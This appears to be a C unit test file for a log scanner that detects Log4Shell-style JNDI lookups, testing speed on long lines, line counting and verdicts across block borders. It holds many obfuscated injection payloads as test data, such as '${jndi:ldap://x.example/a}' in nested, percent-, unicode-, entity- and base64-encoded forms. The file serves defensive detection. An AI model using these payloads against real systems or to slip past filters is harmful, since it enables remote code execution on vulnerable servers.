/* Lines: what a search costs does not depend on how long they are. */
#include "unit.h"

#include "base/limits.h"
#include "hunt/lines.h"

#include <time.h>

static enum status count(void *ctx, const struct line_hit *h)
{
    (void)h;
    ++*(size_t *)ctx;
    return OK;
}

static void begin_search(struct line_search *s, struct prefilter *f,
                         enum status (*hit)(void *ctx, const struct line_hit *h), void *ctx)
{
    prefilter_init(f);
    assert_ok(line_search_init(s, f));
    s->hit = hit;
    s->ctx = ctx;
}

static double cpu_seconds(void)
{
    struct timespec t;
    assert_int_equal(clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t), 0);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* One line of nothing but places that are no opener: each was once looked at together with the rest
 * of the line, which took minutes for eight megabytes. */
static void a_long_line_is_linear(void **state)
{
    (void)state;
    static const char *const pieces[] = {"$\\", "%25", "\\u00", "&amp;", "JHtx", "&#1;", "\\x4d"};
    struct prefilter f;
    struct line_search s;
    size_t hits = 0, n = MIB(8);
    uint8_t *text = malloc(n);
    assert_non_null(text);
    begin_search(&s, &f, count, &hits);
    s.no_evaluation = true;
    for (size_t i = 0; i < ARRAY_LEN(pieces); i++) {
        size_t used = 0, length = strlen(pieces[i]);
        for (size_t k = 0; k < n; k++)
            text[k] = (uint8_t)pieces[i][k % length];
        line_search_begin(&s);
        double began = cpu_seconds();
        assert_ok(line_search_block(&s, slice_of(text, n), false, &used));
        if (cpu_seconds() - began > 5)
            fail_msg("%s: %.1f s", pieces[i], cpu_seconds() - began);
        assert_int_equal(used, n);
    }
    line_search_done(&s);
    free(text);
}

/* Newlines in pieces that were passed over are counted. */
static void lines_are_counted(void **state)
{
    (void)state;
    struct prefilter f;
    struct line_search s;
    struct buf b;
    size_t hits = 0, used = 0;
    buf_init(&b, MIB(1));
    begin_search(&s, &f, count, &hits);
    for (size_t i = 0; i < 5000; i++) {
        for (size_t k = 0; k < i % 60; k++)
            (void)buf_add_str(&b, k % 7 == 3 ? "\\u003" : "%25%2");
        (void)buf_add_str(&b, i % 100 == 99 ? "${jndi:x}\n" : "\n");
    }
    line_search_begin(&s);
    assert_ok(line_search_block(&s, buf_slice(&b), false, &used));
    assert_int_equal(s.lines, 5000);
    assert_int_equal(hits, 50);
    line_search_done(&s);
    buf_done(&b);
}

/* Behind false openers that stand so densely that pieces are decoded: what needs no decoding of
 * escapes is found in the piece all the same, and no border between pieces hides anything. */
static void dense_text_hides_nothing(void **state)
{
    (void)state;
    static const char *const dense[] = {"%25", "\\u00", "&amp;", "%%32%34"};
    char many[1100] = "\\"; /* of u, as Java takes them */
    memset(many + 1, 'u', 1000);
    memcpy(many + 1001, "0024{jndi:x}", 13);
    const char *const payloads[] = {many,
                                    "JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=",
                                    "YSR7am5kaTpsZGFwOi8veC5leGFtcGxlL2F9",
                                    "YWIke2puZGk6bGRhcDovL3guZXhhbXBsZS9hfQ",
                                    "H4sIAAAAAAAC/6tWykrMy8hMyU8BAAAA",
                                    "${jndi:ldap://x.example/a}",
                                    "\\u0024\\u007bjndi:ldap://x.example/a}"};
    struct prefilter f;
    struct line_search s;
    struct buf b;
    size_t hits = 0, used = 0;
    buf_init(&b, MIB(1));
    begin_search(&s, &f, count, &hits);
    s.no_evaluation = true;
    for (size_t d = 0; d < ARRAY_LEN(dense); d++) {
        for (size_t p = 0; p < ARRAY_LEN(payloads); p++) {
            for (size_t before = 0; before < 9000; before += 211) {
                buf_clear(&b);
                while (b.n < before)
                    (void)buf_add_str(&b, dense[d]);
                (void)buf_addf(&b, " %s ", payloads[p]);
                for (size_t k = 0; k < 100; k++)
                    (void)buf_add_str(&b, dense[d]);
                line_search_begin(&s);
                s.openers = 0;
                assert_ok(line_search_block(&s, buf_slice(&b), false, &used));
                if (s.openers == 0)
                    fail_msg("%s behind %zu bytes of %s", payloads[p], before, dense[d]);
            }
        }
    }
    line_search_done(&s);
    buf_done(&b);
}

static enum status keep_verdict(void *ctx, const struct line_hit *h)
{
    *(enum verdict *)ctx = h->found.verdict;
    return OK;
}

/* A spelling of ${ may be as long as the line where its escape takes any number of letters, zeros
 * or backslashes; where each layer takes off one, more layers than are undone reach nothing. */
static void a_long_opener_is_found(void **state)
{
    (void)state;
    static const struct {
        const char *head, *many, *tail;
        bool reaches;
    } openers[] = {
        {"\\", "u", "0024{jndi:x}", true},         {"\\", "uU", "0024{jndi:x}", true},
        {"\\", "\\", "u0024{jndi:x}", true},       {"\\u{", "0", "24}{jndi:x}", true},
        {"$\\", "u", "007bjndi:x}", true},         {"&#", "0", "36;{jndi:x}", true},
        {"&#x", "00", "24{jndi:x}", true},         {"%5c", "%75", "0024{jndi:x}", true},
        {"%5c", "%5c\\\\", "u0024{jndi:x}", true}, {"%26%23", "%30", "36;{jndi:x}", true},
        {"%", "25", "24%7Bjndi:x%7D", false},      {"&", "amp;", "#36;{jndi:x}", false},
    };
    static const char *const dense[] = {"x ", "%25", "\\u00", "&amp;", "%5c"};
    static const size_t lengths[] = {20, 100, 1000, 3000, 9000, 40000};
    enum verdict got = VERDICT_NONE;
    struct prefilter f;
    struct line_search s;
    struct buf b;
    buf_init(&b, MIB(1));
    begin_search(&s, &f, keep_verdict, &got);
    for (size_t i = 0; i < ARRAY_LEN(openers); i++) {
        for (size_t d = 0; d < ARRAY_LEN(dense); d++) {
            for (size_t k = 0; k < ARRAY_LEN(lengths); k++) {
                size_t used = 0;
                buf_clear(&b);
                for (size_t n = 0; n < 9000 && d; n += strlen(dense[d]))
                    (void)buf_add_str(&b, dense[d]);
                (void)buf_addf(&b, " %s", openers[i].head);
                for (size_t n = 0; n < lengths[k]; n += strlen(openers[i].many))
                    (void)buf_add_str(&b, openers[i].many);
                (void)buf_addf(&b, "%s %s%s", openers[i].tail, dense[d], dense[d]);
                line_search_begin(&s);
                got = VERDICT_NONE;
                assert_ok(line_search_block(&s, buf_slice(&b), false, &used));
                if ((got > VERDICT_NONE) != openers[i].reaches ||
                    (lengths[k] <= 1000 && openers[i].reaches && got != VERDICT_REACHES))
                    fail_msg("%s%s… of %zu bytes behind %s: %d", openers[i].head, openers[i].many,
                             lengths[k], dense[d], (int)got);
            }
        }
    }
    line_search_done(&s);
    buf_done(&b);
}

static enum status add_verdict(void *ctx, const struct line_hit *h)
{
    return buf_add_char(ctx, (char)('0' + h->found.verdict));
}

static void search_from(struct line_search *s, struct slice text, size_t from, struct buf *verdicts)
{
    size_t used = 0;
    s->ctx = verdicts;
    if (from)
        line_search_begin_at(s, from);
    else
        line_search_begin(s);
    assert_ok(line_search_block(s, slice_sub(text, from, text.n), false, &used));
}

/* A log that spends its credit again and again: the part behind a span's border is told the same
 * by who searches all of it and by who begins there. */
static void parts_are_told_as_the_whole(void **state)
{
    (void)state;
    struct prefilter f;
    struct line_search s;
    struct buf b, all, part;
    buf_init(&b, MIB(24));
    buf_init(&all, MIB(1));
    buf_init(&part, MIB(1));
    begin_search(&s, &f, add_verdict, &all);
    while (b.n < 2 * LINES_SPAN + KIB(64)) {
        (void)buf_add_str(&b, "$$$$$$$$$$$$$$$$$$$$${jndi:x}"); /* a pass for each dollar */
        for (size_t k = 0; k < 20 + b.n % 7; k++)
            (void)buf_add_str(&b, "${q}");
        (void)buf_add_char(&b, '\n');
    }
    struct slice text = buf_slice(&b);
    search_from(&s, text, 0, &all);
    for (size_t span = LINES_SPAN; span <= 2 * LINES_SPAN; span += LINES_SPAN) {
        buf_clear(&part);
        size_t from = span + slice_index(slice_sub(text, span - 1, text.n), '\n');
        search_from(&s, text, from, &part);
        assert_in_range(part.n, 100, all.n);
        assert_non_null(memchr(part.p, '0' + VERDICT_REACHES, part.n));
        assert_non_null(memchr(part.p, '0' + VERDICT_ATTEMPT, part.n));
        assert_memory_equal(part.p, all.p + all.n - part.n, part.n);
    }
    line_search_done(&s);
    buf_done(&b);
    buf_done(&all);
    buf_done(&part);
}

/* A text, and the verdicts of its lines. */
struct trial {
    struct prefilter filter;
    struct line_search search;
    struct buf text, verdicts;
};

static void trial_init(struct trial *t)
{
    buf_init(&t->text, MIB(4));
    buf_init(&t->verdicts, KIB(4));
    begin_search(&t->search, &t->filter, add_verdict, &t->verdicts);
}

static void trial_done(struct trial *t)
{
    line_search_done(&t->search);
    buf_done(&t->text);
    buf_done(&t->verdicts);
}

/* The text comes in blocks of `step` bytes more each time, as from a pipe. */
static void search_in_blocks(struct trial *t, size_t step)
{
    struct slice text = buf_slice(&t->text);
    size_t from = 0, have = 0;
    buf_clear(&t->verdicts);
    line_search_begin(&t->search);
    for (bool more = true; more;) {
        size_t used = 0;
        have = have + step < text.n - from ? have + step : text.n - from;
        more = from + have < text.n;
        assert_ok(line_search_block(&t->search, slice_sub(text, from, have), more, &used));
        assert_in_range(used, 0, have);
        from += used;
        have -= used;
    }
    assert_ok(line_search_end(&t->search));
}

static void add_many(struct buf *b, const char *piece, size_t n)
{
    for (size_t end = b->n + n; b->n < end;)
        (void)buf_add_str(b, piece);
}

/* A lookup that is longer than what is examined at once is told, wherever it begins and however it
 * is spelt: as an attempt at the least. */
static void a_long_lookup_is_told(void **state)
{
    (void)state;
    static const struct {
        const char *head, *padding, *tail;
    } lookups[] = {
        {"${${a:", "z", ":-j}ndi:ldap://x/a}"},
        {"${${a:", "z", ":-j}n${a:-d}i:ldap://x/a"},
        {"${j${a:", "z", ":-n}di:ldap://x/a}"},
        {"${jnd${a", ".", ":-i}:ldap://x/a}"},
        {"${${a:", "${b}", ":-j}ndi:ldap://x/a}"},
        {"${a:", "z", ":-$}{jndi:ldap://x/a} ${q}"}, /* another pass makes it */
        {"${${lower:J}${b:-n}D${a:", "z", ":-i}:ldap://x/a}"},
        {"%24%7b%24%7ba:", "%7a", ":-%6a%7d%6e%64%69:%6cdap://x/a%7d"},
        {"%24{${a:", "z", ":-%6a}n%64i:ldap://x/a}"},
        {"%2524%257b%2524{a:", "%257a", ":-j%257dndi:ldap://x/a}"},
        {"\\u0024\\u007b${a:", "\\u007a", ":-\\u006a\\u007dndi:ldap://x/a}"},
        {"&dollar;&lbrace;&#36;{a:", "&#122;", ":-&#x6a;&#x7d;ndi:ldap://x/a}"},
        {"JHske2E6", "enp6enp6", "Oi1qfW5kaTpsZGFwOi8veC9hfQ=="},
    };
    static const size_t starts[] = {0, 100, 30000, 60000, 65000, 150000},
                        steps[] = {4096, 65536, MIB(4)};
    struct trial t;
    struct buf *b = &t.text;
    trial_init(&t);
    for (size_t i = 0; i < ARRAY_LEN(lookups); i++) {
        for (size_t at = 0; at < ARRAY_LEN(starts); at++) {
            for (size_t n = 20000; n < 600000; n *= 2) {
                buf_clear(b);
                (void)buf_add_str(b, "first\n");
                add_many(b, "$ (", starts[at]);
                (void)buf_add_str(b, lookups[i].head);
                add_many(b, lookups[i].padding, n);
                (void)buf_add_str(b, lookups[i].tail);
                add_many(b, "$ ", 100000);
                (void)buf_add_str(b, "\n${jndi:x}\n");
                for (size_t k = 0; k < ARRAY_LEN(steps); k++) {
                    search_in_blocks(&t, steps[k]);
                    if (t.verdicts.n != 2 || t.verdicts.p[0] == '0' + VERDICT_NONE)
                        fail_msg("%s behind %zu with %zu, %zu at once: %s", lookups[i].head,
                                 starts[at], n, steps[k], buf_text(&t.verdicts));
                }
            }
        }
    }
    trial_done(&t);
}

/* What a long line holds further on is told, whatever stands before it. */
static void the_worst_of_a_long_line_is_told(void **state)
{
    (void)state;
    static const struct {
        const char *first, *second, *want;
    } lines[] = {
        {"${ jndi:x}", "${jndi:ldap://x/a}", "3"},
        {"${ jndi:x}", "${jndi:ldap://x/a", "2"},
        {"${jndi:ldap://x/a ", "${jndi:ldap://x/a}", "3"},
        {"${jndi:ldap://x/a}", "${ jndi:x}", "3"},
        {"${jndi:ldap://x/a ", "${ jndi:x ", "2"},
        {"${ jndi:x}", "${a}", "1"},
        {"${a}", "${b}", ""},
        /* not closed, and nothing of a lookup behind; or closed before it */
        {"${a ", "zzzz", ""},
        {"${a}", "jndi:x}", ""},
        {"${a ", "jndi:x", ""}, /* no part of its name is behind */
    };
    static const size_t steps[] = {65536, MIB(4)};
    struct trial t;
    struct buf *b = &t.text;
    trial_init(&t);
    for (size_t i = 0; i < ARRAY_LEN(lines); i++) {
        for (size_t n = 1000; n < 1000000; n *= 3) {
            buf_clear(b);
            (void)buf_add_str(b, lines[i].first);
            add_many(b, "z", n);
            (void)buf_add_str(b, lines[i].second);
            add_many(b, "z", 150000);
            for (size_t k = 0; k < ARRAY_LEN(steps); k++) {
                search_in_blocks(&t, steps[k]);
                if (strcmp(buf_text(&t.verdicts), lines[i].want) != 0)
                    fail_msg("%s, %zu, %s, %zu at once: %s", lines[i].first, n, lines[i].second,
                             steps[k], buf_text(&t.verdicts));
            }
        }
    }
    trial_done(&t);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_long_line_is_linear),
        cmocka_unit_test(lines_are_counted),
        cmocka_unit_test(dense_text_hides_nothing),
        cmocka_unit_test(a_long_opener_is_found),
        cmocka_unit_test(parts_are_told_as_the_whole),
        cmocka_unit_test(a_long_lookup_is_told),
        cmocka_unit_test(the_worst_of_a_long_line_is_told),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
